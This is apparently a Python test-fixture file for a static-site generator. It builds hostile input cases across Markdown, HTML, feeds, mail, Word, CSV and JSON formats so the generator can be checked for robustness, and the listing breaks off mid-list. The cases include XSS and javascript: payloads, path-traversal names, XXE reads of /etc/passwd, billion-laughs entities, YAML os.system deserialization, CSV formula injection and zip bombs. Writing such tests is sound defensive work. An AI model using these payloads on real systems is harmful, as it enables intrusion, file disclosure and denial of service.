"""Hostile cases of the project's own, written out as a folder that hostile.py builds and checks: over all formats.

    python benchmarks/trust/cases.py FOLDER && python benchmarks/trust/hostile.py FOLDER

Each case says which files there are, what may become of them, and what must hold of the site. Small files only; those
that are large when written out are made here by repetition.
"""

import argparse
import base64
import gzip
import io
import json
import os
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import yaml

__all__ = ["CASES", "CONTROLS", "Case", "written"]

BAD = "</title><script>xss_1()</script>\"'><img src=x onerror=xss_2()>"
WORDS = "The harbour office said on Monday that the ferry would sail again after the repairs to its engine had ended."
CANARY = "SECRET_CANARY_OF_THE_CASES"
CONTROLS = {
    f"00-control/control-{n}.md": f"---\ntitle: Healthy {n}\ndate: 2024-05-0{n}\n---\n\nHEALTHY{n} {WORDS}\n"
    for n in (1, 2, 3)
}
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ORACLE = ("html_oracle", "xml_json_strict", "no_traceback", "no_write_outside")


@dataclass(frozen=True)
class Case:
    """One hostile case."""

    name: str
    """What it is called."""
    files: dict[str, str | bytes]
    """Files below content/articles; a text that begins with `-> ` is a symbolic link."""
    checks: tuple[object, ...] = ()
    """Checks of hostile.py beside the oracle's."""
    exit: tuple[int, ...] = (0,)
    """Exit codes that are right."""
    strict: tuple[int, ...] = (0, 1)
    """Exit codes that are right with --strict."""
    told: tuple[str, int | None] | None = None
    """File and line of a message that must be printed; any line when it is None."""
    content: dict[str, str] = field(default_factory=dict)
    """Files of content/ itself."""
    seconds: float = 1.0
    """Seconds of the processor that it may add to a build."""
    memory: int = 200
    """Megabytes that it may add."""


def post(title="A headline", body="", **fields):
    """Return a Markdown file with front matter; fields are printed as they are given."""
    lines = "".join(f"{name}: {value}\n" for name, value in ({"date": "2024-05-06"} | fields).items())
    return f"---\ntitle: {title}\n{lines}---\n\n{body}\n\n{WORDS}\n"


def page(body, head="", title="A headline"):
    """Return a saved page."""
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>"
        f"<time datetime=2024-05-06>6 May 2024</time>{body}<p>{WORDS}</p></article></body></html>"
    )


def rss(items, before='<?xml version="1.0"?>'):
    """Return a feed with items as given."""
    return f'{before}<rss version="2.0"><channel><title>Feed</title>{items}</channel></rss>'


def item(title, body, more=""):
    """Return one item of a feed."""
    return f"<item><title>{title}</title><pubDate>Mon, 06 May 2024 10:00:00 GMT</pubDate>{more}<description>{body} {WORDS}</description></item>"


def word(paragraphs="", parts=None, sizes=()):
    """Return a Word file with these paragraphs, and with further parts."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    whole = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?><w:document {space}><w:body>{paragraphs}</w:body></w:document>',
    } | (parts or {})
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, text in whole.items():
            packed.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)
        for name, size in sizes:
            packed.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), b"\0" * size, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def w(text):
    """Return one paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def mail(headers, body, kind="text/plain; charset=utf-8"):
    """Return a message."""
    return f"From: Desk <desk@news.example>\r\nDate: Mon, 6 May 2024 10:00:00 +0000\r\n{headers}MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{body}\r\n"


def nitf(title, body, doctype=""):
    """Return a story of a wire in NITF."""
    return f'<?xml version="1.0"?>{doctype}<nitf><head><docdata><date.issue norm="20240506T100000Z"/></docdata></head><body><body.head><hedline><hl1>{title}</hl1></hedline></body.head><body.content><p>{body}</p><p>{WORDS}</p></body.content></body></nitf>'


def warc(body, uri="https://news.example/a.html"):
    """Return a record of a crawl with one answer."""
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body.encode()
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {uri}\r\nWARC-Date: 2024-05-06T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-000000000001>\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {len(answer)}\r\n\r\n"
    return head.encode() + answer + b"\r\n\r\n"


def wxr(title, body):
    """Return an export of WordPress with one post."""
    return f'<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:wp="http://wordpress.org/export/1.2/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Blog</title><wp:wxr_version>1.2</wp:wxr_version><item><title>{title}</title><dc:creator><![CDATA[{title}]]></dc:creator><content:encoded><![CDATA[{body}<p>{WORDS}</p>]]></content:encoded><wp:post_id>1</wp:post_id><wp:post_date>2024-05-06 10:00:00</wp:post_date><wp:post_name>../../PWNED-wxr</wp:post_name><wp:status>publish</wp:status><wp:post_type>post</wp:post_type></item></channel></rss>'


def equals(marker, value, *where):
    """Return the check that a text stands as it was written at these places of an article's page."""
    return {
        "text_equals": {"page_of": marker, "where": list(where or ("h1", "jsonld.headline")), "value": value}
    }


def kept(*texts):
    """Return the check that these words can be read."""
    return {"text_kept": list(texts)}


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY l0 'lollollol'>"
    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
QUOTED = json.dumps(BAD)

CASES = (
    # ------------------------------------------------------------ names and paths
    Case("percent-slug", {"a.md": post(slug='"%2e%2e%2f%2e%2e%2fPWNED-percent"', body="MARKA")}, ("no_write_outside", {"page_of": "MARKA"}, {"no_output_path_contains": "PWNED"}), told=("a.md", None)),
    Case("climbing-names", {"a.md": post(topics='["../../PWNED-topic"]', author='"../../PWNED-person"', source='"..\\\\..\\\\PWNED-source"', photo_credit='"/etc/PWNED-credit"', image="../../../../../../etc/passwd", body="MARKA")}, ({"page_of": "MARKA"}, {"absent_in_output": "root:x:0:0"}, "path_oracle")),
    Case("case-only", {"Same.md": post("Same Headline", topics="[Ferry]", body="MARKA"), "same.md": post("SAME HEADLINE", topics="[ferry]", body="MARKB"), "SAME.md": post("same headline", topics="[Ferry]", body="MARKC")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC"]}, "no_casefold_equal_paths", {"topic_page_lists_only": {"topic": "Ferry", "markers": ["MARKA", "MARKB", "MARKC"]}})),
    Case("device-names", {"con.md": post("CON", topics="[aux, nul., 'com1.txt', LPT9]", author="Con", body="MARKA"), "nul.txt": f"NUL\n2024-05-06\n\nMARKB {WORDS}\n", "aux/prn.md": post("PRN.", body="MARKC")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC"]}, "path_oracle")),
    Case("no-letters", {"a.md": post('"!!!"', topics='["???", "…", "🙂"]', body="MARKA"), "b.md": post('".."', topics='["..", "."]', body="MARKB"), "c.md": post("🙂", body="MARKC"), "d.md": post('"\u200b\u200d\ufeff"', body="MARKD")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC", "MARKD"]}, {"topic_page": "🙂"})),
    Case("symbolic-links", {"a.md": f"-> ../../../{CANARY}.txt", "loop": "-> .", "up": "-> ../..", "b.yaml": f"-> ../../../{CANARY}.txt", "b.md": post(image="c.png", body="MARKB"), "c.png": "-> /etc/hostname"}, ({"page_of": "MARKB"}, {"absent_in_output": CANARY}, {"report_lists": "a.md"}, {"report_lists": "b.yaml"}), content={f"../{CANARY}.txt": CANARY}),
    Case("index-and-feed", {"index.md": post("index", slug="index", topics="[index, feed, search, static]", body="MARKA"), "feed.md": post("feed", permalink="/feed.atom", body="MARKB"), "404.html": page("<p>MARKC</p>", title="404"), "index.html": page("<p>MARKD</p>", title="Index")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC", "MARKD"]}, "path_oracle")),
    Case("strange-file-names", {"a\nb.md": post("One", body="MARKA"), "-rf.md": post("Two", body="MARKB"), "a%2e%2e%2fb#c?d.md": post("Three", body="MARKC"), "a\x1b[31m\x07.md": post("Four", body="MARKD"), "\u202egnp.md": post("Five", body="MARKE"), "<script>xss_1()<\u2215script>.md": post("Six", body="MARKF"), " lead.md": post("Seven", body="MARKG"), "{{7*7}}.md": post("Eight", body="MARKH"), "\\..\\..\\PWNED.md": post("Nine", body="MARKI"), "$(touch PWNED-sh).md": post("Ten", body="MARKJ"), "a;b&c|d'e\"f.md": post("Eleven", body="MARKK")}, ({"distinct_pages": [f"MARK{c}" for c in "ABCDEFGHIJK"]}, "terminal_safe_log", "no_casefold_equal_paths")),
    Case("names-without-headline", {"\u202egnp.txt": f"MARKA {WORDS}\n", "<img src=x onerror=xss_1()>.txt": f"MARKB {WORDS}\n", "a\nb\x1b[2J.txt": f"MARKC {WORDS}\n", "n" * 240 + ".txt": f"MARKD {WORDS}\n"}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC", "MARKD"]}, "terminal_safe_log", {"path_component_bytes_max": 120}, {"rel_path_chars_max": 200})),
    Case("deep-folders", {"/".join(["folder" * 8] * 20) + "/a.md": post("Deep", image="b.png", body="MARKA"), "/".join(["folder" * 8] * 20) + "/b.png": PNG}, ({"page_of": "MARKA"}, {"rel_path_chars_max": 200})),
    Case("unicode-twins", {"a.md": post("Twins", topics="[ﬁsh, fish, FISH, ｆｉｓｈ]", author="ﬁona Ｇreen", body="MARKA"), "b.md": post("Ｔｗｉｎｓ", topics="[straße, STRASSE, strasse]", body="MARKB"), "c.md": post("Ελλάς", topics="[ΕΛΛΑΣ, ελλάς, İstanbul, istanbul, ISTANBUL]", body="MARKC")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC"]}, "no_casefold_equal_paths", "all_output_paths_nfc")),
    Case("long-without-spaces", {"a.md": post("字" * 3000, topics=f"[{'界' * 400}, {'é' * 400}]", author="Ж" * 300, body="MARKA"), "b.md": post("🙂" * 900, body="MARKB"), "c.md": post("e" + "\u0301" * 2000, body="MARKC")}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC"]}, {"path_component_bytes_max": 120}, {"rel_path_chars_max": 200})),
    # ------------------------------------------------------------ active content, format by format
    Case("json-ld", {"a.md": post(json.dumps("</script><!--<script>{\"@type\":\"x\"}//\u2028\u2029&lt;/script&gt;"), summary='"]]></script>"', author='"</script><script>xss_1()</script>"', body="MARKA")}, ("jsonld_no_raw_lt_gt_amp", equals("MARKA", "</script><!--<script>{\"@type\":\"x\"}// &lt;/script&gt;", "h1"))),
    Case("links-of-markdown", {"a.md": post(body='MARKA [one](javascript:xss_1()) [two](JaVaScRiPt:xss_2()) [three](java&#10;script:xss_3()) [four](&#x6A;avascript:xss_4()) [five](\x01javascript:xss_5()) [six](//evil.example/x) [seven](https://good.example/ok) <javascript:xss_6()> [eight]: data:text/html,xss_7\n\n[eight][eight] ![nine](https://evil.example/track.png) [ten](file:///etc/passwd) [eleven](  vbscript:x )')}, (kept("one", "seven", "ten"), {"has_href": "https://good.example/ok"}, {"url_schemes_only": ["http", "https", "mailto"]})),
    Case("mutation-of-markup", {"a.md": post(body='MARKA <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss_1()&gt;">\n\n<svg></p><style><a id="</style><img src=1 onerror=xss_2()>"></svg>\n\n<noscript><p title="</noscript><img src=x onerror=xss_3()>">\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss_4()>\n\n<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=xss_5()>">')}, ({"page_of": "MARKA"}, {"no_elements": ["math", "style", "template", "noscript"]})),
    Case("templates", {"a.md": post('"{{ 7*191 }} {% if 1 %}x{% endif %} {# c #}"', author='"{{ config }}"', topics='["{{ 7*191 }}"]', body="MARKA {{ 7*191 }} ${7*191} #{7*191} <%= 7*191 %> {{ ''.__class__ }} {{< youtube >}} {% include '/etc/passwd' %}")}, ({"absent_in_output": "1337"}, equals("MARKA", "{{ 7*191 }} {% if 1 %}x{% endif %} {# c #}"), kept("{{< youtube >}}"))),
    Case("addresses-in-fields", {"a.md": post(original_url='"javascript:xss_1()"', image='"javascript:xss_2()"', source_url='"data:text/html,xss_3"', body="MARKA"), "b.md": post(url='"https://evil.example/\\"onmouseover=xss_4()"', image="//evil.example/track.png", body="MARKB"), "c.md": post(original_url='" \\tjava\\nscript:xss_5()"', body="MARKC")}, ({"url_schemes_only": ["http", "https", "mailto"]}, {"distinct_pages": ["MARKA", "MARKB", "MARKC"]})),
    Case("fields-of-toml", {"a.md": f"+++\ntitle = {QUOTED}\ndate = 2024-05-06\nauthors = [{QUOTED}]\ntags = [{QUOTED}]\n[cover]\nimage = \"../../../etc/passwd\"\ncaption = {QUOTED}\n+++\n\nMARKA {WORDS}\n"}, (equals("MARKA", BAD),)),
    Case("fields-of-json", {"a.md": json.dumps({"title": BAD, "date": "2024-05-06", "tags": [BAD], "author": {"name": BAD}}, indent=1) + f"\n\nMARKA {WORDS}\n"}, (equals("MARKA", BAD),)),
    Case("restructured", {"a.rst": f"A headline\n==========\n\n:date: 2024-05-06\n:author: {BAD}\n\nMARKA `one <javascript:xss_3()>`_ and\n\n.. raw:: html\n\n   <script>xss_4()</script>\n\n.. include:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\n.. image:: javascript:xss_5()\n\n{WORDS}\n"}, (kept("MARKA"), {"absent_in_output": "root:x:0:0"})),
    Case("saved-page-data", {"a.html": page("<p>MARKA</p>", '<script type="application/ld+json">' + json.dumps({"@type": "NewsArticle", "headline": BAD, "author": [{"name": BAD}], "image": ["javascript:xss_3()"], "url": "javascript:xss_4()", "keywords": BAD}).replace("</", "<\\/") + f'</script><base href="//evil.example/"><meta property="og:title" content=\'{BAD.replace(chr(39), "&#39;")}\'><meta http-equiv=refresh content="0;url=javascript:xss_5()"><link rel=canonical href="javascript:xss_6()">')}, ({"page_of": "MARKA"}, {"url_schemes_only": ["http", "https", "mailto"]})),
    Case("saved-page-forms", {"a.html": page('<p>MARKA</p><form action=javascript:xss_1()><input autofocus onfocus=xss_2()><button formaction=javascript:xss_3()>go</button></form><details open ontoggle=xss_4()><summary>s</summary>kept words</details><video><source onerror=xss_5()></video><object data=javascript:xss_6()></object><embed src=//evil.example><isindex><marquee onstart=xss_7()>run</marquee><a href="javas\tcript:xss_8()">t</a><p style="background:url(//evil.example)">styled words</p>')}, (kept("MARKA", "styled words"), {"absent_in_output": "evil.example"}, {"no_elements": ["object", "embed", "marquee", "iframe"]})),
    Case("feed-items", {"a.xml": rss(item("First &lt;script&gt;xss_1()&lt;/script&gt;", "&lt;img src=x onerror=xss_2()&gt;MARKA", "<link>javascript:xss_3()</link><category>&lt;b&gt;]]&gt;</category><enclosure url='javascript:xss_4()' type='image/png'/>") + item("Second", "<![CDATA[<iframe src=//evil.example></iframe>MARKB<a href=' javascript:xss_5()'>l</a>]]>"))}, ({"page_of": "MARKA"}, {"page_of": "MARKB"})),
    Case("feed-of-atom", {"a.atom": f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>F</title><entry><title type="html">MARKA &lt;script&gt;xss_1()&lt;/script&gt;</title><id>x</id><updated>2024-05-06T10:00:00Z</updated><link href="javascript:xss_2()"/><author><name>&lt;img src=x onerror=xss_3()&gt;</name><uri>javascript:xss_4()</uri></author><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>xss_5()</script><p onclick="xss_6()">MARKA {WORDS}</p><svg xmlns="http://www.w3.org/2000/svg"><script>xss_7()</script></svg></div></content></entry></feed>'}, ({"page_of": "MARKA"},)),
    Case("wordpress-export", {"a.xml": wxr("MARKA headline", '<script>xss_1()</script>[caption id="x" align="left"]<img src="javascript:xss_2()" onerror="xss_3()"> <b onclick=xss_4()>c</b>[/caption]<!-- wp:html --><iframe srcdoc="xss_5"></iframe><!-- /wp:html -->[gallery ids="<script>"]')}, ({"page_of": "MARKA"},)),
    Case("wire-story", {"a.xml": nitf("First &lt;script&gt;xss_1()&lt;/script&gt;", 'MARKA <script>xss_2()</script><a href="javascript:xss_3()">l</a><media media-type="image"><media-reference source="javascript:xss_4()"/><media-caption>&lt;img onerror=xss_5()&gt;</media-caption></media>')}, (equals("MARKA", "First <script>xss_1()</script>", "h1"),)),
    Case("mail-in-html", {"a.eml": mail(f"Subject: MARKA {BAD}\r\n", f"<p onclick=xss_1()>MARKA {WORDS}</p><script>xss_2()</script><img src=cid:x onerror=xss_3()>", "text/html; charset=utf-8"), "b.eml": mail('Subject: =?utf-8?B?' + base64.b64encode(("MARKB " + BAD).encode()).decode() + "?=\r\nX: =?bad?Q?=ZZ?=\r\n", f"MARKB {WORDS}")}, ({"page_of": "MARKA"}, {"page_of": "MARKB"})),
    Case("mail-of-parts", {"a.eml": mail("Subject: MARKA parts\r\n", f"--x\r\nContent-Type: text/plain\r\n\r\nMARKA {WORDS}\r\n--x\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"../../../PWNED-mail.html\"\r\n\r\n<script>xss_1()</script>\r\n--x\r\nContent-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\r\n\r\n\r\n--x--", "multipart/mixed; boundary=x")}, ({"page_of": "MARKA"}, {"absent_in_output": "root:x:0:0"})),
    Case("table-of-articles", {"a.csv": "title,date,text,author,url\r\n" + ",".join('"' + v.replace('"', '""') + '"' for v in (f"First {BAD}", "2024-05-06", f"MARKA {WORDS}", "=cmd|' /C calc'!A0", "javascript:xss_3()")) + "\r\n" + f'"=HYPERLINK(""http://evil.example"")",2024-05-06,"MARKB {WORDS}","@SUM(1)","https://good.example/"\r\n'}, ({"distinct_pages": ["MARKA", "MARKB"]},)),
    Case("records-of-json", {"a.json": json.dumps([{"title": f"MARKA {BAD}", "date": "2024-05-06", "text": f"<script>xss_3()</script> MARKA {WORDS}", "author": [BAD], "url": "javascript:xss_4()", "tags": [BAD, {"name": BAD}, None, 7]}])}, ({"page_of": "MARKA"},)),
    Case("lines-of-json", {"a.jsonl": json.dumps({"title": "MARKA", "date": "2024-05-06", "body_html": f"<p onclick=xss_1()>MARKA {WORDS}</p><script>xss_2()</script>"}) + "\n{broken\n" + json.dumps({"title": "MARKB", "date": "2024-05-06", "text": f"MARKB {WORDS}"}) + "\n"}, ({"page_or_report": "MARKA"}, {"page_of": "MARKB"})),
    Case("crawl", {"a.warc": warc(page("<p>MARKA</p><script>xss_1()</script>"), "https://news.example/../../PWNED-warc\"><script>xss_2()</script>")}, ({"page_of": "MARKA"},)),
    Case("telegram-export", {"a.json": json.dumps({"name": BAD, "type": "public_channel", "id": 1, "messages": [{"id": 1, "type": "message", "date": "2024-05-06T10:00:00", "date_unixtime": "1714989600", "from": BAD, "photo": "../../../../etc/passwd", "text": ["MARKA ", {"type": "text_link", "text": "link", "href": "javascript:xss_3()"}, {"type": "bold", "text": BAD}, f" {WORDS}"]}]})}, ({"page_of": "MARKA"},)),
    Case("word-file", {"a.docx": word(w("MARKA &lt;script&gt;xss_1()&lt;/script&gt;") + w("6 May 2024") + w(f"{WORDS} &lt;img src=x onerror=xss_2()&gt; {WORDS}"))}, ({"page_of": "MARKA"},)),
    Case("sidecar", {"a.txt": f"A headline\n2024-05-06\n\nMARKA {WORDS}\n", "a.yaml": f"headline: {QUOTED}\nauthor: [{QUOTED}]\ntopics: [{QUOTED}]\nsource: {QUOTED}\nlink: 'javascript:xss_3()'\ncorrection: {QUOTED}\n"}, (equals("MARKA", BAD),)),
    Case("picture-that-is-a-script", {"a.md": post(image="a.svg", body="MARKA"), "a.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='xss_1()'><script>xss_2()</script></svg>", "b.md": post(image="b.png", caption=QUOTED, photo_credit=QUOTED, alt=QUOTED, body="MARKB"), "b.png": "<html><script>xss_3()</script></html>", "c.md": post(image="c.jpg", body="MARKC"), "c.jpg": b"GIF89a/*" + b"<script>xss_4()</script>"}, ({"distinct_pages": ["MARKA", "MARKB", "MARKC"]}, {"no_output_path_contains": "images/a-"})),
    Case("controls-in-feeds", {"a.md": post('"MARKA\\u0007\\u000b\\u001b[31m\\ufffe\\u0085 title"', summary='"a\\u0000b\\u000c"', topics='["x\\u0001y"]', body="MARKA \x0b\x0c\x1f words")}, ({"page_or_report": "MARKA"}, "no_xml_forbidden_chars", "terminal_safe_log"), (0, 3)),
    Case("halves-of-pairs", {"a.json": '[{"title":"MARKA \\ud83d half \\udc00","date":"2024-05-06","text":"MARKA \\ud800 ' + WORDS + '"}]', "b.md": '---\ntitle: "MARKB \\ud83d half"\ndate: 2024-05-06\n---\n\nMARKB words of it.\n', "c.html": page("<p>MARKC &#xD800; &#xDFFF; &#0; &#x110000; &#1; words</p>", title="C &#xD800;"), "d.md": post("Line", body="MARKD &#xD800; &#0; &#11; &#xFFFE; words")}, ({"page_or_report": "MARKA"}, {"page_or_report": "MARKB"}, {"page_or_report": "MARKC"}, {"page_of": "MARKD"}, "no_xml_forbidden_chars"), (0, 3)),
    Case("turned-everywhere", {"a.md": post('"MARKA \u202eabc"', summary='"\u2067open"', author='"Ann \u202eevoL"', topics='["\u2066t\u202e"]', source='"\u202eecruos"', photo_credit='"\u202bcredit"', body="MARKA \u202e**bold \u2067** _it_ `\u202ecode` [l\u202e](https://good.example/\u202e)")}, ("no_unbalanced_bidi_in_output", "terminal_safe_log", {"page_of": "MARKA"}), told=("a.md", 2)),
    # ------------------------------------------------------------ parsers
    Case("yaml-tags", {"a.md": '---\ntitle: !!python/object/apply:os.system ["touch /tmp/PWNED-yaml"]\n---\n\nMARKA words\n', "b.md": "---\ntitle: !!binary aGFsbG8=\n---\n\nMARKB\n", "c.md": "---\n!!python/name:os.system\ntitle: x\n---\nMARKC\n", "d.md": "---\n%YAML 9.9\n---\ntitle: x\n---\nMARKD\n"}, ({"absent_path": "/tmp/PWNED-yaml*"}, *({"page_or_report": f"MARK{c}"} for c in "ABCD"), {"report_lists": "a.md"}), (0, 3), told=("a.md", 2)),
    Case("yaml-depth", {"a.md": "---\ntitle: " + "[" * 3000 + "]" * 3000 + "\n---\n\nMARKA\n", "b.md": "---\ntitle: x\nk: " + "{a: " * 2000 + "1" + "}" * 2000 + "\n---\n\nMARKB\n", "c.md": "---\ntitle: x\n" + "".join(" " * n + "k:\n" for n in range(300)) + "---\n\nMARKC\n"}, ({"report_lists": "a.md"}, {"report_lists": "b.md"}, {"report_lists": "c.md"}), (0, 3), told=("a.md", 2), memory=50),
    Case("yaml-values", {"a.md": f"---\ntitle: Dates\ndate: 2024-13-45\n---\n\nMARKA {WORDS}\n", "b.md": f"---\ntitle: Zone\ndate: 2024-05-06T10:00:00+99:99\n---\n\nMARKB {WORDS}\n", "c.md": f"---\ntitle: Long\nweight: {'9' * 5000}\ndate: 2024-05-06\n---\n\nMARKC {WORDS}\n", "d.md": f"---\ntitle: .inf\ndate: .nan\ntopics: [.inf, ~, 0x1F, 1_000, 0o17]\n---\n\nMARKD {WORDS}\n", "e.md": f"---\ntitle: 2024-05-06\ndate: 0000-00-00\n---\n\nMARKE {WORDS}\n", "f.md": "---\n- a\n- b: c\n---\n\nMARKF\n", "g.md": "---\n? [a, b]\n: c\ntitle: x\n---\n\nMARKG\n", "h.md": "---\ntitle: [a, b]\ndate: {y: 2024}\nauthor: {a: {b: c}}\n---\n\nMARKH\n", "i.md": "---\ntitle: x\n<<: {a: b}\n---\n\nMARKI\n"}, tuple({"page_or_report": f"MARK{c}"} for c in "ABCDEFGHI"), (0, 3)),
    Case("markdown-that-grows", {"a.md": post(body="MARKA\n\n" + "[" * 40000), "b.md": post(body="MARKB\n\n" + "![" * 15000), "c.md": post(body="MARKC\n\n" + "*a_ " * 12000), "d.md": post(body="MARKD\n\n" + "<a href='" * 6000)}, tuple({"page_of": f"MARK{c}"} for c in "ABCD"), seconds=8),
    Case("markdown-that-nests", {"a.md": post(body="MARKA\n\n" + "> " * 5000 + "deep"), "b.md": post(body="MARKB\n\n" + "".join("  " * n + "- x\n" for n in range(500))), "c.md": post(body="MARKC\n\n" + "".join("\t" * n + "1. x\n" for n in range(300))), "d.md": post(body="MARKD\n\n" + "**_" * 3000 + "x" + "_**" * 3000)}, tuple({"page_of": f"MARK{c}"} for c in "ABCD"), seconds=8),
    Case("external-entities", {"a.xml": nitf("MARKA", "&e; &c;", ENTITY), "b.rss": rss(item("MARKB", "&e;"), '<?xml version="1.0"?>' + ENTITY), "c.xml": '<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "http://evil.example/x.dtd">' + nitf("MARKC", "kept").partition("?>")[2], "d.docx": word(w("&e;"), {"word/document.xml": ENTITY + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>MARKD &e;</w:t></w:r></w:p></w:body></w:document>'}), "e.html": '<?xml version="1.0"?>' + ENTITY + page("<p>MARKE &e; &c;</p>"), "f.xml": '<?xml version="1.0"?><nitf xmlns:xi="http://www.w3.org/2001/XInclude"><body><body.head><hedline><hl1>MARKF</hl1></hedline></body.head><body.content><xi:include href="/etc/passwd" parse="text"/><p>' + WORDS + "</p></body.content></body></nitf>"}, ({"absent_in_output": "root:x:0:0"}, *({"page_or_report": f"MARK{c}"} for c in "ABCDEF")), (0, 3), memory=100),
    Case("laughs", {"a.xml": nitf("MARKA", "&l9;", LAUGHS), "b.rss": rss(item("MARKB", "&l9;"), '<?xml version="1.0"?>' + LAUGHS), "c.docx": word("", {"word/document.xml": LAUGHS + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>MARKC &l9;</w:t></w:r></w:p></w:body></w:document>'}), "d.html": '<?xml version="1.0"?>' + LAUGHS + page("<p>MARKD &l9;</p>")}, tuple({"page_or_report": f"MARK{c}"} for c in "ABCD"), (0, 3), memory=100),
    Case("packed-bombs", {"a.docx": word(w("MARKA"), sizes=(("word/media/a.bin", 70 << 20),)), "b.docx": word(w("MARKB"), {f"x/{n}.xml": "" for n in range(3100)}), "c.docx": word(w("MARKC " + WORDS), {"../../../PWNED-zip.txt": "x", "/tmp/PWNED-zip.txt": "x"}), "d.docx": word("<w:p>" * 5000 + "</w:p>" * 5000), "e.docx": word()[:200], "f.docx": b"PK\x03\x04" + b"\xff" * 400, "g.docx": word("".join(w("x") for _ in range(20)), {"word/styles.xml": "<" * 1000})}, ({"absent_path": "/tmp/PWNED-zip*"}, *({"report_lists": f"{c}.docx"} for c in "abef")), (0, 3), memory=150, seconds=2),
    Case("json-depth", {"a.json": '{"title":' * 20000, "b.json": "[" * 200000, "c.json": '[{"title":"MARKC","date":"2024-05-06","text":' + "[" * 900 + '"x"' + "]" * 900 + "}]", "d.json": '[{"title":"MARKD","date":' + "9" * 6000 + ',"text":"MARKD words"}]', "e.jsonl": '{"title": NaN, "text": Infinity}\n', "f.json": '[{"title":"MARKF","title":"x","date":"2024-05-06","text":"MARKF words"}]'}, ({"report_lists": "a.json"}, {"report_lists": "b.json"}, {"page_or_report": "MARKC"}, {"page_or_report": "MARKD"}), (0, 3)),
    Case("tables-of-signs", {"a.csv": "title,date,text\n" + '"' + "x" * 300000, "b.csv": "title,date,text\n" + "," * 100000, "c.csv": "title,date,text\n" + '"a""' * 30000, "d.tsv": "\t" * 50000 + "\n" + "a\n" * 2000, "e.csv": "title,text,date\nMARKE," + '"line\n' * 5000 + '",2024-05-06\n', "f.csv": "title,date,text\nMARKF,2024-05-06,\x00words\n"}, ({"page_or_report": "MARKE"}, {"page_or_report": "MARKF"}), (0, 3), seconds=2),
    Case("mail-that-nests", {"a.eml": mail("Subject: MARKA\r\n", "".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n" for n in range(500)), "multipart/mixed; boundary=b0"), "b.eml": mail("Subject: MARKB\r\n" + "X-A: b\r\n" * 20000, f"MARKB {WORDS}"), "c.eml": mail("Subject: " + "=?utf-8?q?a?= " * 8000 + "\r\n", f"MARKC {WORDS}"), "d.eml": mail("Subject: MARKD\r\n", WORDS, 'text/plain; charset="../../etc/passwd"'), "e.eml": mail("Subject: MARKE\r\nContent-Transfer-Encoding: base64\r\n", "!!!!" + "=" * 5000), "f.eml": mail("Subject: MARKF\r\n", ("Content-Type: message/rfc822\r\n\r\n") * 400 + "x", "message/rfc822"), "g.mbox": "From a Mon May  6 10:00:00 2024\n" * 3000}, ({"page_or_report": "MARKB"}, {"page_or_report": "MARKD"}), (0, 3), seconds=4),
